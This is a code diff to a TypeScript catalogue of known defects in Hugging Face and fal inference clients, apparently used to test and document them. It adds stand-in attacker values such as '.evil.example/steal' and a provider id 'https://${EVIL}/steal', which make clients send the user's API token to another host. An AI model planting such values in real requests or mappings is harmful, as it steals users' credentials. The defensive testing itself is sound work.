@@ -1,20 +1,30 @@
+import type { Target } from '@model-snippets/core'
 import type { StreamSpelling } from './event-stream.ts'
 import { FAILURES, type Failure } from './failure.ts'
+import { EVIL, harmNamed } from './harm.ts'
 import type { Scenario } from './scenario.ts'
 
-/** What the service plays: a task's scenario, or a chat that is spelled or refused in a certain way. */
+/**
+ * What the service plays: a task's scenario, a chat that is spelled or refused in a certain way, or a hub that gives the
+ * model a certain id at its provider.
+ */
 export type DefectScenario =
   | Scenario
+  | { readonly kind: 'mapping'; readonly providerId: string }
   | { readonly kind: 'chat'; readonly spelling?: StreamSpelling; readonly failure?: Failure }
 
 /** A call that a released client cannot make as it should, and the program that shows it. */
 export interface KnownBroken {
   /** The program, in `docs/known-client-defects`. */
   readonly file: string
-  readonly client: '@huggingface/inference' | 'huggingface_hub' | 'openai'
+  readonly client: '@huggingface/inference' | 'fal_client' | 'huggingface_hub' | 'openai'
   /** The release that was seen to do it. */
   readonly release: string
   readonly provider: string
+  /** How the provider is reached; through the router where nothing is said. */
+  readonly target?: Target
+  /** The variable that the program reads its token from; `HF_TOKEN` where nothing is said. */
+  readonly variable?: string
   /** Tasks that it befalls; the program shows the first. */
   readonly tasks: readonly string[]
   /** What happens, for the reader of the documentation. */
@@ -32,6 +42,15 @@ export interface KnownBroken {
   readonly hides?: string
   /** JSON that stands in the body of its first request for inference. */
   readonly sends?: string
+  /**
+   * What else of a provider's harm the client follows by the same defect, as `ticket-other-host`. It is not played to the
+   * client's examples, which cannot keep it from that.
+   */
+  readonly follows?: readonly string[]
+  /** The host that it sends the token to, and should not. */
+  readonly leaksTo?: string
+  /** How an address begins that it asks, and should not. */
+  readonly asks?: string
   /** How often it asks at least. */
   readonly repeats?: number
 }
@@ -46,6 +65,15 @@ const failureOf = (name: string): Failure => {
 export const JAVASCRIPT = { client: '@huggingface/inference', release: '4.13.30' } as const
 /** The hub's client for Python. */
 export const PYTHON = { client: 'huggingface_hub', release: '2.4.0' } as const
+/** fal's client for Python. */
+export const FAL_CLIENT = { client: 'fal_client', release: '1.0.3' } as const
+
+/** What a provider does that means harm, as `ticket-other-host`. */
+export const harmful = (name: string) => ({ kind: 'harm', harm: harmNamed(name) }) as const
+
+/** What can be done about a client that follows answers by itself. */
+export const UP_TO_THE_CLIENT = 'The example is offered, and cannot keep the client from it.'
+
 /** What is done about a call that cannot work. */
 export const NOT_OFFERED = 'No example of this client is offered.'
 
@@ -73,6 +101,52 @@ export const chatWithoutMessages = (provider: string): KnownBroken => ({
   exitCode: 1,
   says: "'messages' : property 'messages' is missing",
 })
+
+/** Harms that lead to an address which is not https, and take no token there. */
+const LEAVING_HTTPS: readonly string[] = [
+  'address-in-the-clear',
+  'submit-moved-into-the-clear',
+  'status-moved-into-the-clear',
+  'file-moved-into-the-clear',
+]
+
+/** Takes the path of an address, whether or not there is a host before it, and writes it behind the host it knows. */
+export const sendsKeyElsewhere = (
+  client: typeof JAVASCRIPT | typeof PYTHON,
+  provider: string,
+  shown: {
+    readonly tasks: readonly string[]
+    readonly field: string
+    readonly host: string
+    readonly variable: string
+  },
+): KnownBroken => {
+  const isPython = client === PYTHON
+  const name = isPython ? 'huggingface-hub' : 'huggingface-js'
+  const text = isPython ? '.evil.example/steal' : 'x:.evil.example/steal'
+  return {
+    ...client,
+    file: `${name}-${provider}-sends-key-elsewhere.${isPython ? 'py' : 'mjs'}`,
+    provider,
+    target: 'direct',
+    variable: shown.variable,
+    tasks: shown.tasks,
+    problem: `With the reader's own key, the path of \`${shown.field}\` is put behind the host as it is: \`${text}\` makes another host of it, which is sent the key. Through the router there is a path between.`,
+    instead: UP_TO_THE_CLIENT,
+    scenario: harmful(isPython ? 'ticket-behind-dot' : 'ticket-opaque-behind-dot'),
+    exitCode: 1,
+    leaksTo: `${shown.host}.${EVIL}`,
+    follows: isPython
+      ? [
+          'ticket-behind-at-sign',
+          'ticket-behind-dot',
+          'ticket-opaque-behind-at-sign',
+          'ticket-opaque-behind-dot',
+          'ticket-option',
+        ]
+      : ['ticket-opaque-behind-dot'],
+  }
+}
 
 /** What clients do with every provider. */
 export const WITH_EVERY_PROVIDER: readonly KnownBroken[] = [
@@ -124,5 +198,54 @@ export const WITH_EVERY_PROVIDER: readonly KnownBroken[] = [
     exitCode: 1,
     says: 'Error code: 401',
     hides: 'Invalid username or password',
+  },
+  {
+    ...JAVASCRIPT,
+    file: 'huggingface-js-leaves-https.mjs',
+    provider: 'replicate',
+    tasks: ['text-to-image'],
+    problem:
+      'A result at an `http://` address is fetched in the clear, and redirects to one are followed, without the token, by every method and for every provider.',
+    instead: UP_TO_THE_CLIENT,
+    scenario: harmful('address-in-the-clear'),
+    exitCode: 0,
+    asks: 'http://files.replicate.example/',
+    follows: LEAVING_HTTPS,
+  },
+  {
+    ...PYTHON,
+    file: 'huggingface-hub-leaves-https.py',
+    provider: 'replicate',
+    tasks: ['text-to-image'],
+    problem:
+      'A result at an `http://` address is fetched in the clear, and redirects to one are followed, without the token, by every method and for every provider.',
+    instead: UP_TO_THE_CLIENT,
+    scenario: harmful('address-in-the-clear'),
+    exitCode: 1,
+    asks: 'http://files.replicate.example/',
+    follows: LEAVING_HTTPS,
+  },
+  {
+    ...JAVASCRIPT,
+    file: 'huggingface-js-provider-id-is-an-address.mjs',
+    provider: 'hf-inference',
+    tasks: ['fill-mask'],
+    problem:
+      "A provider's id of the model that starts with `https://` is called as it is, with the token; the id comes from the hub.",
+    instead: 'No example of this client is offered for a model with such an id.',
+    scenario: { kind: 'mapping', providerId: `https://${EVIL}/steal` },
+    exitCode: 1,
+    leaksTo: EVIL,
+  },
+  {
+    ...PYTHON,
+    file: 'huggingface-hub-model-is-an-address.py',
+    provider: 'auto',
+    tasks: ['conversational'],
+    problem: 'A model whose name starts with `https://` is called as an address, with the token.',
+    instead: 'A record whose id has not the form of the hub is refused.',
+    scenario: { kind: 'chat' },
+    exitCode: 0,
+    leaksTo: EVIL,
   },
 ]
